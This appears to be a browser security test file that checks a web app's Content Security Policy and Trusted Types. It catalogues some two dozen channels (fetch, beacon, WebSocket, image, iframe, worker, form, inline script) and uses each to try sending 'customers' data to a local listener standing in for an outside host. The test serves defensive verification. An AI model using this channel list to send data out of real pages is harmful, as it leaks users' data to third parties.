// Nothing leaves the page: whatever a script in it tried, or in its worker, another server hears of nothing.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, test } from "node:test";
import { launch, openApp, serveRelease } from "./harness.mjs";

const address = await serveRelease();
const heard = [];
const other = createServer((request, response) => {
  heard.push(request.url);
  response.writeHead(200, { "access-control-allow-origin": "*" }).end();
});
await new Promise((resolve) => other.listen(0, "127.0.0.1", resolve));
after(() => new Promise((resolve) => {
  other.close(resolve);
  other.closeAllConnections();
}));
const there = `127.0.0.1:${other.address().port}`;

/** Ways to send something away, each as a script of the page would try it. */
const WAYS = {
  fetch: (there) => fetch(`http://${there}/fetch`, { method: "POST", body: "customers", mode: "no-cors" }),
  request: (there) => new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.onloadend = resolve;
    request.open("POST", `http://${there}/request`);
    request.send("customers");
  }),
  beacon: (there) => navigator.sendBeacon(`http://${there}/beacon`, "customers"),
  socket: (there) => new Promise((resolve) => {
    const socket = new WebSocket(`ws://${there}/socket`);
    socket.onopen = socket.onerror = resolve;
  }),
  events: (there) => new Promise((resolve) => {
    new EventSource(`http://${there}/events`).onerror = resolve;
  }),
  image: (there) => new Promise((resolve) => {
    const image = new Image();
    image.onload = image.onerror = resolve;
    image.src = `http://${there}/image?customers`;
  }),
  script: (there) => import(`http://${there}/script.js`),
  frame: (there) => new Promise((resolve) => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    frame.onload = resolve;
    frame.src = `http://${there}/frame`;
  }),
  sheet: (there) => linked("stylesheet", `http://${there}/sheet.css`),
  prefetch: (there) => linked("prefetch", `http://${there}/prefetch`),
  preload: (there) => linked("preload", `http://${there}/preload`, { as: "fetch", crossOrigin: "" }),
  modulepreload: (there) => linked("modulepreload", `http://${there}/module.js`),
  manifest: (there) => linked("manifest", `http://${there}/manifest`),
  icon: (there) => linked("icon", `http://${there}/icon.svg`),
  font: (there) => new FontFace("other", `url(http://${there}/font)`).load(),
  video: (there) => new Promise((resolve) => {
    const video = document.body.appendChild(document.createElement("video"));
    video.onerror = resolve;
    video.src = `http://${there}/video`;
  }),
  embed: (there) => {
    const embed = document.body.appendChild(document.createElement("embed"));
    embed.src = `http://${there}/embed`;
  },
  drawing: (there) => {
    const drawing = document.body.appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg"));
    const image = drawing.appendChild(document.createElementNS("http://www.w3.org/2000/svg", "image"));
    image.setAttribute("href", `http://${there}/drawing`);
  },
  ping: (there) => {
    const link = Object.assign(document.createElement("a"), { href: "#/rules", ping: `http://${there}/ping` });
    document.body.append(link);
    link.click();
  },
  worker: (there) => new Worker(URL.createObjectURL(new Blob([`fetch("http://${there}/worker")`]))),
  transport: (there) => new WebTransport(`https://${there}/transport`).ready,
  background: (there) => { document.body.style.backgroundImage = `url(http://${there}/background)`; },
  form: (there) => {
    const form = Object.assign(document.createElement("form"), { action: `http://${there}/form`, method: "post" });
    document.body.append(form);
    form.submit();
  },
  inline: (there) => {
    const script = document.createElement("script");
    script.textContent = `fetch("http://${there}/inline")`;
    document.head.append(script);
  },
};

/** Gives the page what has the browser ask for what a link names. */
const link = () => {
  window.linked = (rel, href, more = {}) =>
    new Promise((resolve) => {
      const link = Object.assign(document.createElement("link"), { rel, href, ...more });
      link.onload = link.onerror = resolve;
      document.head.append(link);
    });
};

/** Ways that a worker has, too. */
const WORKER_WAYS = Object.fromEntries(["fetch", "request", "socket", "events", "script", "transport"].map((name) => [name, WAYS[name]]));

const REFUSED = /Content Security Policy|violates|Failed to load|Failed to fetch|failed: http:\/\/127|Refused|WebSocket|EventSource|csp|TrustedHTML|TrustedScript|Trusted Type|manifest|WebTransport/i;

async function assertShut(where, ways) {
  for (const [name, way] of Object.entries(ways)) {
    const tried = where.evaluate(way, there).catch(() => {});
    await Promise.race([tried, new Promise((resolve) => setTimeout(resolve, 1_500))]);
    assert.deepEqual(heard, [], `${name} was heard`);
  }
  await new Promise((resolve) => setTimeout(resolve, 200));
  assert.deepEqual(heard, []);
}

for (const isLaidUp of [false, true]) {
  test(`no way leads out of the page${isLaidUp ? " that a service worker answers for" : ""}`, async (t) => {
    const browser = await launch(t, { isLaidUp, allow: REFUSED });
    const page = await openApp(browser, address);
    if (isLaidUp) {
      await page.waitForFunction(() => navigator.serviceWorker.controller?.state === "activated");
      await page.reload();
      await page.getByRole("heading", { level: 1 }).waitFor();
    }
    await page.evaluate(link);
    await assertShut(page, WAYS);
    assert.equal(page.url().startsWith(address), true);
  });
}

test("no way leads out of the worker for workbooks", async (t) => {
  const browser = await launch(t, { allow: REFUSED });
  const page = await openApp(browser, address);
  const [worker] = await Promise.all([page.waitForEvent("worker"), page.evaluate(() => {
    window.worker = window.portbookSheets.start();
    return new Promise((resolve) => window.worker.addEventListener("message", resolve, { once: true }));
  })]);
  await assertShut(worker, WORKER_WAYS);
});

test("the page makes no markup and no script of a text", async (t) => {
  const browser = await launch(t, { allow: REFUSED });
  const page = await openApp(browser, address);
  const sinks = {
    markup: () => { document.body.innerHTML = "<img>"; },
    adjacent: () => document.body.insertAdjacentHTML("beforeend", "<b>"),
    written: () => document.write("<b>"),
    frame: () => { document.createElement("iframe").srcdoc = "<b>"; },
    address: () => { document.createElement("script").src = "start.js"; },
    script: () => { document.createElement("script").text = "1"; },
    worker: () => new Worker("app.js"),
    policy: () => trustedTypes.createPolicy("other", {}),
    again: () => trustedTypes.createPolicy("default", {}),
    timer: () => setTimeout("1"),
  };
  for (const [name, sink] of Object.entries(sinks)) {
    await assert.rejects(page.evaluate(sink), /TypeError|EvalError/, name);
  }
});

test("what was tried would have been heard without the policy", async () => {
  await fetch(`http://${there}/fetch`);
  assert.deepEqual(heard.splice(0), ["/fetch"]);
});
